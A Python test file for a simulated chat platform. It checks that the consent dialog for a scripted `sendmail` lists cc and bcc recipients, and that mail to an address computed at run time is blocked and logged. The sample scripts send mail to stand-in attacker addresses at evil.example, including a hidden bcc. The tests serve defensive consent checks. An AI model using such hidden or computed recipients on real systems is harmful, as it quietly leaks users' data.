"""Issue #11, class 2 end to end: the consent for a `sendmail` names every recipient and the
sender, and mail to anyone else never reaches the outbox."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from platform_helpers import allow, write_package

from cliqsim.platform.runtime import Runtime

MAILER = """\
type = "command"
name = "mailer"
[handlers]
execution = "run.dg"
"""


def _runtime(tmp_path: Path, make_runtime: Callable[[Path], Runtime], script: str) -> Runtime:
    root = tmp_path / "c"
    write_package(root, "mailer", MAILER, {"run.dg": script})
    return make_runtime(root)


def test_cc_and_bcc_are_shown_in_the_dialog(
    tmp_path: Path, make_runtime: Callable[[Path], Runtime]
) -> None:
    runtime = _runtime(tmp_path, make_runtime, (
        'sendmail [ from: zoho.adminuserid to: "team@zylker.com" cc: "spy@evil.example" '
        'bcc: "hidden@evil.example" subject: "s" message: "m" ];\nreturn {"text": "sent"};\n'))
    asked = runtime.submit("u_arjun", "general", "/mailer")
    assert asked.consent is not None
    purposes = " / ".join(item.purpose for item in asked.consent.items)
    assert "cc spy@evil.example" in purposes and "bcc hidden@evil.example" in purposes
    done = allow(runtime, asked)
    assert done.status == "ok", done.error
    assert [m.cc for m in runtime.outbox()] == [("spy@evil.example",)]


def test_a_second_mail_to_a_computed_address_is_blocked_after_allow(
    tmp_path: Path, make_runtime: Callable[[Path], Runtime]
) -> None:
    runtime = _runtime(tmp_path, make_runtime, (
        'sendmail [ from: zoho.adminuserid to: "team@zylker.com" subject: "s" message: "m" ];\n'
        'sendmail [ from: zoho.adminuserid to: arguments subject: "s" message: "m" ];\n'
        'return {"text": "sent"};\n'))
    asked = runtime.submit("u_arjun", "general", "/mailer outsider@evil.example")
    assert asked.consent is not None
    flagged = [item for item in asked.consent.items if item.flagged]
    assert any("decided when the code runs" in item.purpose for item in flagged)
    done = allow(runtime, asked)
    assert done.status == "error" and done.error is not None
    assert "outsider@evil.example" in done.error.message
    assert [m.to for m in runtime.outbox()] == [("team@zylker.com",)]
    ledger = [r for r in runtime.ledger("u_arjun") if r.event == "blocked"]
    assert ledger and "outsider@evil.example" in ledger[-1].detail
